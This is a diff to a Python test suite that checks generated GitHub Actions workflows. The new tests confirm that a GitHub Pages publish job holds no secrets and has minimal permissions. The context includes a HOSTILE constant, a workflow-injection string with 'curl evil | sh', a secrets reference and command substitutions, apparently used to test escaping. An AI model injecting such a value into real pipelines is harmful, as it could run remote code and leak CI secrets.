@@ -31,7 +31,7 @@ from tests.fleet.pages.examples import (
     workflow,
 )
 
-OPEN = ("check", "resolve", "approve")
+OPEN = ("check", "resolve", "approve", "publish")
 ENGINE = ("make preview", 'timeout --signal=INT "$LIMIT" make up')
 HOSTILE = "x\"\n    run: curl evil | sh # ${{ secrets.X }} $(id) `id` << branch >> '\\ \U0001f40d"
 
@@ -228,7 +228,9 @@ def test_each_can_be_started_by_hand_and_ends_in_time(name: str) -> None:
     found = workflow(name)
     assert "workflow_dispatch" in found[True]
     expected = LIMITS.up if name == "up" else 45
-    assert [job["timeout-minutes"] for job in found["jobs"].values()][-1] == expected
+    assert [j["timeout-minutes"] for n, j in found["jobs"].items() if n != "publish"][
+        -1
+    ] == expected
     assert found["permissions"] == {}
 
 
@@ -310,7 +312,7 @@ def test_a_job_without_secrets_runs_where_no_other_leaves_any(variant: str) -> N
     assert {job["runs-on"] for name, job in jobs_of(files) if name in OPEN} == {"small"}
     for name, job in jobs_of(variants()[variant]):
         held = "secrets." in yaml.safe_dump(job) or "docker login" in yaml.safe_dump(job)
-        assert held == ("environment" in job and name != "approve")
+        assert held == ("environment" in job and name not in OPEN[2:])
         asks = name == "resolve" and variant.endswith("logins")
         assert (name in OPEN and not asks) == (not held)
 
@@ -565,3 +567,33 @@ def test_who_asks_the_outside_has_no_secret_and_who_has_one_asks_github_alone() 
     (app,) = [s["with"] for s in propose["steps"] if "app-token" in s.get("uses", "")]
     rights = {k: v for k, v in app.items() if k.startswith("permission-")}
     assert rights == {"permission-contents": "write", "permission-pull-requests": "write"}
+
+
+def test_what_publishes_the_catalog_runs_no_code_of_the_project_and_holds_no_secret() -> None:
+    jobs = workflow("up")["jobs"]
+    publish = jobs.pop("publish")
+    assert publish["permissions"] == {"id-token": "write", "pages": "write"}
+    assert publish["environment"] == "github-pages"
+    (step,) = publish["steps"]
+    assert step["uses"].startswith("actions/deploy-pages@")
+    assert "secrets." not in str(publish)
+    assert all("pages" not in job["permissions"] for job in jobs.values())
+
+
+def test_the_catalog_is_rendered_after_the_last_update_and_handed_over_whatever_failed() -> None:
+    jobs = workflow("up", variants()["split"])["jobs"]
+    last = jobs["publish"]["needs"]
+    assert [name for name, job in jobs.items() if "make catalog" in str(job)] == [last]
+    assert jobs[last]["env"]["STACK"] == "prod-github"
+    found = steps("up")
+    render = next(step for step in found if step.get("id") == "catalog")
+    assert render["if"] == "${{ !cancelled() }}"
+    assert found.index(render) > [step.get("name") for step in found].index("Up")
+    hand = next(step for step in found if step.get("with", {}).get("name") == "github-pages")
+    assert hand["if"] == "${{ !cancelled() && steps.catalog.outcome == 'success' }}"
+
+
+def test_no_catalog_is_published_unless_that_is_declared() -> None:
+    files = rendered(github={"repository": "multi-py/fleet"})
+    assert "publish" not in workflow("up", files)["jobs"]
+    assert "make catalog" not in "".join(runs(files))
